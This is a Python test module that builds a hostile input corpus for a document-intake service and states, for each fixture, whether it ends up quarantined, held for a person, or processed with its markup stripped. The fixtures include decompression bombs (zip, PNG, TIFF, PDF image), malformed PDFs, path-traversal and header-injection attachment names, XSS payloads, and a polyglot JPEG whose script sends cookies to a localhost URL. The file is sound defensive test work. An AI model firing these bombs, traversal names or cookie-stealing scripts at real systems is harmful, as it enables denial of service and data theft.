"""Hostile input corpus, written at test time (nothing big is committed).

``python -m tests.hostile.make_corpus OUT`` writes every fixture into OUT and prints their
names; :func:`make` returns ``{name handed to intake: Expect}``. Each fixture states exactly what must
become of it: its one end state and the words of its reason, or the documents it gives and their text.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import pikepdf
from PIL import Image, ImageDraw, ImageFont
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

QUARANTINED, NEEDS_HUMAN, PROCESSED = "quarantined", "needs_human", "processed"
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
BODY = "Dear Sir, I complain about invoice IN/2026/10/004512. Customer MR-1234567."


@dataclass(frozen=True)
class Expect:
    """What must become of a fixture: exactly one end ``state``; when held, the words its ``reason`` (shown to a
    person) contains; when processed, how many ``documents`` it gives and the words their ``text`` contains,
    in this order (an e-mail: its body first), and words it must not contain (``absent``: markup never
    becomes text). All words compare case-insensitively."""

    state: str
    reason: tuple[str, ...] = ()
    documents: int = 0
    text: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()

    def __post_init__(self) -> None:
        assert self.state in (QUARANTINED, NEEDS_HUMAN, PROCESSED), self.state
        if self.state == PROCESSED:
            assert self.documents >= 1 and self.text and not self.reason, self
        else:
            assert self.reason and not (self.documents or self.text), self


def held(state: str, *reason: str) -> Expect:
    return Expect(state, reason=reason)


def processed(*text: str, documents: int = 1, absent: tuple[str, ...] = ()) -> Expect:
    return Expect(PROCESSED, documents=documents, text=text, absent=absent)


# ---------------------------------------------------------------- building blocks


def text_pdf(text: str = BODY, pages: int = 1) -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for n in range(pages):
        y = 780
        for line in (f"Page {n + 1}", *[text[i:i + 80] for i in range(0, len(text), 80)]):
            c.drawString(60, y, line)
            y -= 16
        c.showPage()
    c.save()
    return buf.getvalue()


def _encrypted(r: int, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user, R=r, aes=r >= 4,
                                                                     metadata=r >= 4))
    return out.getvalue()


def _raw_pdf(objects: list[bytes], root: int = 1, xref_ok: bool = True) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct (or garbage) xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % (off if xref_ok else off * 7 + 13)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root,
                                                                         xref if xref_ok else xref + 999)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def recursive_page_tree() -> bytes:
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"])


def circular_xobjects() -> bytes:
    content = b"q /X1 Do Q"
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /X1 5 0 R >> >> >>",
        _stream(content),
        _stream(b"q /X2 Do Q", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
                b"/Resources << /XObject << /X2 6 0 R >> >>"),
        _stream(b"q /X1 Do Q", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
                b"/Resources << /XObject << /X1 5 0 R >> >>"),
    ])


def broken_xref() -> bytes:
    """Every offset of the xref table and startxref wrong: a reader must rebuild it by scanning the objects."""
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                     b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                     _stream(b"BT /F1 12 Tf 72 720 Td (Broken xref. " + BODY.encode() + b") Tj ET")],
                    xref_ok=False)


def many_pages(count: int = 10_000) -> bytes:
    """10,000 pages for a few hundred kB: every page shares one content stream."""
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
               _stream(b"BT /F1 12 Tf 72 720 Td (Page) Tj ET")]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
            b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>")
    objects += [page] * count
    return _raw_pdf(objects)


def javascript_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(text_pdf("Dear Sir, please cancel my contract MR-1234567. " * 3))) as pdf:
        js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                  JS=pikepdf.String("app.launchURL('http://127.0.0.1:9/x');")))
        pdf.Root.OpenAction = js
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), js]))
        pdf.save(out)
    return out.getvalue()


def huge_mono_image_pdf() -> bytes:
    """A page holding a 100,000×100,000 1-bit image whose data is 100 bytes (decoding would need 1.25 GB)."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        _stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q"),
        _stream(zlib.compress(b"\x00" * 100), b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
                b"/BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode"),
    ])


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(side: int, real: bool) -> bytes:
    """A ``side``×``side`` 8-bit grey PNG; ``real``: all its rows really compressed (a small file that
    inflates to side² bytes), else a header with a token IDAT."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    if real:
        comp = zlib.compressobj(9)
        row = b"\x00" * (side + 1)
        chunks = [comp.compress(row) for _ in range(side)]
        idat = b"".join(chunks) + comp.flush()
    else:
        idat = zlib.compress(b"\x00" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def _tiff(entries: list[tuple[int, int, int, int]], next_ifd: int | None = None, tail: bytes = b"") -> bytes:
    """Little-endian TIFF with one IFD at offset 8: entries (tag, type, count, value)."""
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in sorted(entries):
        ifd += struct.pack("<HHII", tag, typ, count, value)
    ifd += struct.pack("<I", 8 if next_ifd is None else next_ifd)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + tail


def tiff_bomb() -> bytes:
    return _tiff([(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 1), (259, 3, 1, 4), (262, 3, 1, 0),
                  (273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, 100_000), (279, 4, 1, 10)], next_ifd=0,
                 tail=b"\x00" * 300)


def tiff_ifd_loop() -> bytes:
    """A fax whose IFD chain points back at itself: an endless number of pages."""
    return _tiff([(256, 4, 1, 1728), (257, 4, 1, 100), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 0),
                  (273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, 100), (279, 4, 1, 100)], next_ifd=8,
                 tail=b"\x00" * 400)


def fax_tiff(truncate: int | None = None, flip: bool = False) -> bytes:
    img = Image.new("1", (1728, 1100), 1)
    draw = ImageDraw.Draw(img)
    for i in range(20):
        draw.text((80, 60 + i * 50), f"FAX line {i}: reklamacja faktury FV/2026/10/0045{i:02d}", fill=0)
    buf = io.BytesIO()
    img.save(buf, "TIFF", compression="group4", dpi=(204, 196))
    data = bytearray(buf.getvalue())
    if flip:  # scribble over the compressed strip
        for i in range(200, min(len(data) - 200, 1200), 7):
            data[i] ^= 0x5A
    return bytes(data[:truncate] if truncate else data)


def polyglot_jpeg_html() -> bytes:
    img = Image.new("L", (400, 200), 255)
    ImageDraw.Draw(img).text((10, 80), "polyglot", fill=0, font=ImageFont.load_default(size=30))
    buf = io.BytesIO()
    img.save(buf, "JPEG")
    jpeg = buf.getvalue()
    html = b"<html><body><script>document.location='http://127.0.0.1:9/'+document.cookie</script></body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    return jpeg[:2] + comment + jpeg[2:]


def _mail(subject: str = "Complaint", sender: str = "Jan Kowalski <jan@example.com>") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "bok@operator.example"
    msg["Subject"] = subject
    msg["Date"] = "Mon, 12 Oct 2026 10:00:00 +0200"
    msg["Message-ID"] = f"<{abs(hash((subject, sender)))}@example.com>"
    return msg


def nested_mime(depth: int) -> bytes:
    inner = (b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
             b"Dear Sir, I complain about invoice IN/2026/10/004512 for customer MR-1234567.\r\n")
    for level in range(depth):
        b = b"b%d" % level
        inner = (b"Content-Type: multipart/mixed; boundary=\"" + b + b"\"\r\n\r\n--" + b + b"\r\n" + inner
                 + b"\r\n--" + b + b"--\r\n")
    head = (b"From: a@example.com\r\nTo: b@example.com\r\nSubject: deep\r\nDate: Mon, 12 Oct 2026 10:00:00 +0200\r\n"
            b"Message-ID: <deep%d@example.com>\r\nMIME-Version: 1.0\r\n" % depth)
    return head + inner


def many_parts(count: int) -> bytes:
    body = bytearray(b"From: a@example.com\r\nTo: b@example.com\r\nSubject: parts\r\n"
                     b"Date: Mon, 12 Oct 2026 10:00:00 +0200\r\nMessage-ID: <parts@example.com>\r\n"
                     b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"p\"\r\n\r\n")
    for i in range(count):
        body += b"--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i
    body += b"--p--\r\n"
    return bytes(body)


def huge_header(size: int) -> bytes:
    return (b"From: a@example.com\r\nTo: b@example.com\r\nSubject: " + b"A" * size +
            b"\r\nDate: Mon, 12 Oct 2026 10:00:00 +0200\r\nMessage-ID: <big@example.com>\r\n\r\n"
            b"Dear Sir, please cancel my contract MR-1234567.\r\n")


def traversal_mail() -> bytes:
    """Attachments named to escape a directory, inject headers or disguise a type (written by hand:
    the e-mail library refuses to build most of them)."""
    pdf = text_pdf("Complaint: the invoice IN/2026/10/004512 was charged twice, refund 149.99 GBP please.")
    names = ["../../../../tmp/mailroom-escape.pdf", "..\\..\\windows\\x.pdf", "a\x00b.pdf",
             "a\r\nX-Evil: 1.pdf", "invoice\u202efdp.exe", "x" * 1000 + ".pdf", "faktura.pdf.exe",
             "e\u0301tat.pdf", "/etc/passwd"]
    dispositions = [f"attachment; filename=\"=?utf-8?b?{base64.b64encode(n.encode()).decode()}?=\"" for n in names]
    dispositions.append("attachment; filename*=utf-8''%2e%2e%2f%2e%2e%2fescape2.pdf")
    out = bytearray(b"From: a@example.com\r\nTo: b@example.com\r\nSubject: hostile names\r\n"
                    b"Date: Mon, 12 Oct 2026 10:00:00 +0200\r\nMessage-ID: <names@example.com>\r\n"
                    b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"B\"\r\n\r\n"
                    b"--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                    b"Dear Sir, my complaint about invoice IN/2026/10/004512 is attached. MR-1234567.\r\n")
    for i, disposition in enumerate(dispositions):
        out += (b"--B\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
                b"Content-Disposition: " + disposition.encode() + b"\r\n\r\n"
                + base64.encodebytes(pdf + b"%% %d" % i) + b"\r\n")
    out += b"--B--\r\n"
    return bytes(out)


def zip_bomb_mail(levels: int = 12) -> bytes:
    payload = b"\x00" * 10_000_000
    for level in range(levels):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(f"layer{level}.zip" if level else "zeros.bin", payload)
        payload = buf.getvalue()
    msg = _mail("Invoices (zipped)")
    msg.set_content("Dear Sir, the invoices you asked for are in the attached archive. MR-1234567.")
    msg.add_attachment(payload, maintype="application", subtype="zip", filename="invoices.zip")
    return msg.as_bytes()


def xss_mail(subject: str = "Reklamacja") -> bytes:
    msg = _mail(f"{subject} {XSS}", f'"{XSS}" <evil@example.com>')  # its own Message-ID per subject
    msg.set_content("Dzień dobry, reklamuję fakturę FV/2026/10/004512. " + XSS + " Nr klienta MR-1234567.")
    msg.add_alternative(f"<html><body onload=alert(1)><p>Reklamacja {XSS}</p>"
                        f"<a href='javascript:alert(1)'>x</a></body></html>", subtype="html")
    return msg.as_bytes()


def html_only_mail() -> bytes:
    msg = _mail("HTML only")
    msg.set_content("<html><head><script src='http://127.0.0.1:9/x.js'></script></head><body>"
                    "<p>I want to cancel my contract, customer number MR-1234567.</p>"
                    "<iframe src='javascript:alert(1)'></iframe></body></html>", subtype="html")
    return msg.as_bytes()


# ---------------------------------------------------------------- the corpus


PASSWORD = ("password-protected", "unprotected copy")
DAMAGED_PDF = ("PDF is damaged or incomplete", "new copy")
DAMAGED_IMAGE = ("damaged",)
NO_PAGE = ("No readable page", "blank")
PIXELS = ("more than 200,000,000 pixels", "normal resolution")
COMPLAINT = ("invoice IN/2026/10/004512", "MR-1234567")


def fixtures() -> dict[str, tuple[Callable[[], bytes], Expect]]:
    """{name handed to intake: (builder, what must become of it)}."""
    tp = text_pdf()
    return {
        "encrypted-r2-user.pdf": (lambda: _encrypted(2, "user-secret"), held(NEEDS_HUMAN, *PASSWORD)),
        "encrypted-r3-user.pdf": (lambda: _encrypted(3, "user-secret"), held(NEEDS_HUMAN, *PASSWORD)),
        "encrypted-r4-user.pdf": (lambda: _encrypted(4, "user-secret"), held(NEEDS_HUMAN, *PASSWORD)),
        "encrypted-r6-user.pdf": (lambda: _encrypted(6, "user-secret"), held(NEEDS_HUMAN, *PASSWORD)),
        "encrypted-r4-owner-only.pdf": (lambda: _encrypted(4, ""), processed(*COMPLAINT)),
        "encrypted-r6-owner-only.pdf": (lambda: _encrypted(6, ""), processed(*COMPLAINT)),
        "truncated.pdf": (lambda: tp[: len(tp) // 2], held(QUARANTINED, *DAMAGED_PDF)),
        "zero-bytes.pdf": (lambda: b"", held(QUARANTINED, "is empty (0 bytes)", "send it again")),
        "header-only.pdf": (lambda: b"%PDF-1.7\n", held(QUARANTINED, *DAMAGED_PDF)),
        "recursive-page-tree.pdf": (recursive_page_tree, held(QUARANTINED, "Page 2 of the PDF is damaged")),
        # the page draws only its endless form XObjects: rendered (no endless loop), blank
        "circular-xobjects.pdf": (circular_xobjects, held(QUARANTINED, *NO_PAGE)),
        "broken-xref.pdf": (broken_xref, processed("Broken xref", *COMPLAINT)),
        "ten-thousand-pages.pdf": (many_pages, held(QUARANTINED, "10000 pages", "limit of 500", "split it")),
        "javascript-openaction.pdf": (javascript_pdf, processed("please cancel my contract", "MR-1234567",
                                                                absent=("launchURL", "127.0.0.1"))),
        "huge-mono-image.pdf": (huge_mono_image_pdf, held(QUARANTINED, "Page 1", *PIXELS)),
        "png-bomb-40000.png": (lambda: png_bomb(40_000, real=True), held(QUARANTINED, *PIXELS)),
        "png-header-100000.png": (lambda: png_bomb(100_000, real=False), held(QUARANTINED, *PIXELS)),
        "tiff-bomb-100000.tif": (tiff_bomb, held(QUARANTINED, *PIXELS)),
        "tiff-ifd-loop.tif": (tiff_ifd_loop, held(QUARANTINED, *DAMAGED_IMAGE)),
        "fax-truncated.tif": (lambda: fax_tiff(truncate=300), held(QUARANTINED, *DAMAGED_IMAGE)),
        "fax-scribbled.tif": (lambda: fax_tiff(flip=True), processed("reklamacja")),  # decoded with warnings
        "tiff-garbage.tif": (lambda: b"II*\x00" + b"\xff" * 64, held(QUARANTINED, *DAMAGED_IMAGE)),
        "polyglot.jpg": (polyglot_jpeg_html, processed("polyglot", absent=("<script", "document.cookie"))),
        # an all-black 64×64 PNG named .pdf: read as the PNG it is, and it holds no text
        "png-named.pdf": (lambda: png_bomb(64, real=True), held(QUARANTINED, *NO_PAGE)),
        "pdf-named.eml": (lambda: tp, processed(*COMPLAINT)),
        "eml-named.pdf": (lambda: xss_mail("Reklamacja (named .pdf)"),
                          processed("reklamuję fakturę FV/2026/10/004512", "MR-1234567")),
        "program.exe": (lambda: b"MZ\x90\x00" + bytes(range(256)) * 40,
                        held(QUARANTINED, "is not a PDF, image, TIFF fax or e-mail")),
        "mime-depth-200.eml": (lambda: nested_mime(200), held(QUARANTINED, "nests deeper than 20 levels")),
        "mime-10000-parts.eml": (lambda: many_parts(10_000), held(QUARANTINED, "more than 200 MIME parts")),
        "header-10mb.eml": (lambda: huge_header(10 * 1024 * 1024), processed("please cancel my contract",
                                                                              "MR-1234567")),
        # one letter: the body first, then the ten attached PDFs as further pages (issue 14)
        "filename-traversal.eml": (traversal_mail, processed("my complaint about invoice IN/2026/10/004512 is "
                                                             "attached", "was charged twice")),
        # the letter is its body; the archive is not opened, and noted on the letter by its name
        "zip-bomb.eml": (zip_bomb_mail, processed("the invoices you asked for are in the attached archive",
                                                  "invoices.zip")),
        "xss-subject-body.eml": (xss_mail, processed("reklamuję fakturę FV/2026/10/004512", "MR-1234567")),
        "html-only.eml": (html_only_mail, processed("I want to cancel my contract", "MR-1234567",
                                                    absent=("<script", "<iframe", "javascript:", "x.js"))),
        "letter-with-script.txt": (lambda: (f"Dear Sir, {XSS} I complain about invoice IN/2026/10/004512. "
                                            "MR-1234567").encode(), processed(*COMPLAINT)),
        # an SVG is not an image Mailroom draws: it is read as the text it is
        "svg-script.svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>'
                           b"alert(document.cookie)</script><text>complaint</text></svg>", processed("complaint")),
        "../dot-dot.pdf": (lambda: tp + b"% dotdot", processed(*COMPLAINT)),
        "rtl-\u202efdp.exe": (lambda: tp + b"% rtl", processed(*COMPLAINT)),
        "crlf-\r\nname.pdf": (lambda: tp + b"% crlf", processed(*COMPLAINT)),
    }


def disk_name(name: str) -> str:
    """Where a fixture is written: a name with ``/`` is written inside OUT with its slashes replaced. The
    hostile name itself is what intake is handed (``make`` returns the real names)."""
    return name.replace("/", "%2F")


def make(out: Path) -> dict[str, Expect]:
    """Write every fixture into ``out`` (as ``disk_name(name)``); returns {name handed to intake: Expect}."""
    out.mkdir(parents=True, exist_ok=True)
    expected = {}
    for name, (build, expect) in fixtures().items():
        (out / disk_name(name)).write_bytes(build())
        expected[name] = expect
    return expected


if __name__ == "__main__":
    written = make(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
    print("\n".join(f"{disk_name(name)}\t{e.state}\t{' | '.join(e.reason or e.text)}"
                    for name, e in sorted(written.items())))
